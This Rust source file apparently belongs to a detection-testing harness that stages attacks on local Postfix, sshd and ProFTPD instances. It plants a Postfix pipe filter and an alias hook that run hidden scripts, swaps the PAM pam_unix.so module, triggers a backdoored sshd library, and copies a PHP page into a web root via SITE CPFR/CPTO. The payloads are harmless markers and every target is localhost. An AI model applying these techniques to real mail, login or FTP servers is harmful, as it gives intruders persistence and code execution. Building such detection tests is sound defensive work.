//! Attacks on mail, file and login servers.

use super::deeds::{prove, prove_file};
use super::hall::{Instance, open_to_all};
use super::start::PAM_MODULES;
use super::{Hall, Server};
use crate::command;
use crate::stories::{RealStory, Seen};
use anyhow::{Context, Result, bail};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpStream;
use std::process::Command;
use std::time::Duration;

/// All of this file.
pub const STORIES: &[RealStory] = &[
    RealStory { id: "A38", run: filter },
    RealStory { id: "A39", run: alias },
    RealStory { id: "A44", run: patched_module },
    RealStory { id: "A45", run: library_with_hole },
    RealStory { id: "A47", run: copied_page },
];

/// Speaks a protocol of lines: sends each line and waits for an answer with that number.
pub fn converse(port: u16, lines: &[(&str, &str)]) -> Result<()> {
    let mut stream = TcpStream::connect(("127.0.0.1", port))?;
    stream.set_read_timeout(Some(Duration::from_secs(20)))?;
    let mut reader = BufReader::new(stream.try_clone()?);
    for (line, wanted) in lines {
        if !line.is_empty() {
            stream.write_all(format!("{line}\r\n").as_bytes())?;
        }
        let mut answer = String::new();
        // A hyphen after the number says that more lines follow.
        while answer.is_empty() || (answer.get(3..4) == Some("-") && !answer.starts_with("SSH")) {
            answer.clear();
            if reader.read_line(&mut answer)? == 0 {
                bail!("no answer to {line:?}");
            }
        }
        if !answer.starts_with(wanted) {
            bail!("the answer to {line:?} was {:?}", answer.trim());
        }
    }
    Ok(())
}

/// Sends a mail to somebody on this machine.
pub fn send_mail(port: u16, to: &str) -> Result<()> {
    let to = format!("RCPT TO:<{to}@localhost>");
    let text = "Subject: story\r\n\r\ntext\r\n.";
    let lines = [
        ("", "220"),
        ("EHLO localhost", "250"),
        ("MAIL FROM:<somebody@localhost>", "250"),
        (&to, "250"),
        ("DATA", "354"),
        (text, "250"),
        ("QUIT", "221"),
    ];
    converse(port, &lines)
}

/// Runs a command, or a session with what is typed, as root over ssh.
pub fn ssh(server: &Instance, arguments: &[&str]) -> Command {
    let mut client = Command::new("ssh");
    let key = server.path("key");
    client.args(["-F", "/dev/null", "-i", &key, "-p", &server.port.to_string()]);
    client.args(["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]);
    client.args(["-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes"]).args(arguments);
    client
}

/// A38: a shell adds a pipe transport to Postfix, and has all mail filtered by it.
fn filter(hall: &mut Hall) -> Result<Seen> {
    let postfix = hall.victim(Server::Postfix)?;
    let hidden = hall.workplace("hidden")?;
    open_to_all(&hidden, 0o777)?;
    let (program, mark) = (hidden.join(".flt"), hidden.join("mark"));
    std::fs::write(&program, format!("#!/bin/sh\nid > {}\n", mark.display()))?;
    open_to_all(&program, 0o755)?;
    let story = hall.begin();
    let line = format!("flt unix - n n - - pipe user=nobody argv={}", program.display());
    let script =
        "echo \"$2\" >> \"$1/master.cf\"; echo 'content_filter = flt:' >> \"$1/main.cf\"; postfix -c \"$1\" reload";
    let mut shell = Command::new("bash");
    command::output(shell.args(["-c", script, "bash"]).arg(&postfix.at).arg(line))?;
    // smtpd reads its configuration when it is started anew.
    std::thread::sleep(Duration::from_millis(300));
    let story = story.acting();
    send_mail(postfix.port, "somebody").with_context(|| log(&postfix))?;
    prove_file(&mark, "uid=").with_context(|| log(&postfix))?;
    hall.seen(story)
}

/// A39: an alias hands mail to a script in a hidden directory.
fn alias(hall: &mut Hall) -> Result<Seen> {
    let postfix = hall.victim(Server::Postfix)?;
    let hidden = hall.workplace("spool")?.join(".x");
    std::fs::create_dir_all(&hidden)?;
    open_to_all(&hidden, 0o777)?;
    let (program, mark) = (hidden.join("hook"), hidden.join("mark"));
    std::fs::write(&program, format!("#!/bin/sh\nid > {}\n", mark.display()))?;
    open_to_all(&program, 0o755)?;
    let story = hall.begin();
    let line = format!("hook: \"|{} 2>/dev/null\"", program.display());
    let script = "echo \"$2\" >> \"$1/aliases\"; postalias -c \"$1\" \"hash:$1/aliases\"";
    let mut shell = Command::new("bash");
    command::output(shell.args(["-c", script, "bash"]).arg(&postfix.at).arg(line))?;
    send_mail(postfix.port, "hook").with_context(|| log(&postfix))?;
    prove_file(&mark, "uid=").with_context(|| log(&postfix))?;
    hall.seen(story)
}

fn log(postfix: &Instance) -> String {
    ["logs/mail", "postfix.log"].map(|name| std::fs::read_to_string(postfix.at.join(name)).unwrap_or_default()).concat()
}

/// A44: a module of PAM is replaced by another build of it, and the next login loads it.
fn patched_module(hall: &mut Hall) -> Result<Seen> {
    let sshd = hall.victim(Server::SshdPatched)?;
    let patched = hall.workplace("build")?.join("pam_unix.so");
    let mut bytes = std::fs::read(format!("{PAM_MODULES}/pam_unix.so"))?;
    bytes.extend_from_slice(b"another build");
    std::fs::write(&patched, bytes)?;
    let story = hall.begin();
    let module = format!("{PAM_MODULES}/pam_unix.so");
    let mut copy = Command::new("nsenter");
    command::output(copy.args(["--mount", "--target", &sshd.pid.to_string(), "cp"]).arg(&patched).arg(&module))?;
    prove_file(&sshd.at.join("security/pam_unix.so"), "another build")?;
    prove(&command::output(&mut ssh(&sshd, &["root@127.0.0.1", "id"]))?, "uid=0")?;
    hall.seen(story)
}

/// A45: a stranger connects, and a library of sshd runs a command before any login.
fn library_with_hole(hall: &mut Hall) -> Result<Seen> {
    // The wait for the port is a connection too, and so the first alert of the incident.
    let story = hall.begin();
    let sshd = hall.victim(Server::SshdWithHole)?;
    let mark = sshd.at.join("mark");
    prove_file(&mark, "uid=0")?;
    std::fs::remove_file(&mark)?;
    converse(sshd.port, &[("", "SSH-")])?;
    prove_file(&mark, "uid=0")?;
    hall.seen(story)
}

/// A47: a client of ProFTPD copies a text into the web root, as a page.
fn copied_page(hall: &mut Hall) -> Result<Seen> {
    let site = hall.need(Server::Php)?;
    open_to_all(&site.at.join("www"), 0o777)?;
    let proftpd = hall.victim(Server::Proftpd)?;
    let story = hall.begin();
    let (from, to) = (proftpd.path("incoming/notes.txt"), site.path("www/info.php"));
    let (from, to) = (format!("SITE CPFR {from}"), format!("SITE CPTO {to}"));
    let lines =
        [("", "220"), ("USER guest", "331"), ("PASS guest", "230"), (&from, "350"), (&to, "250"), ("QUIT", "221")];
    converse(proftpd.port, &lines)?;
    prove(&site.page("info.php")?, "I ran 42")?;
    let seen = hall.seen(story);
    hall.retire(Server::Php);
    seen
}
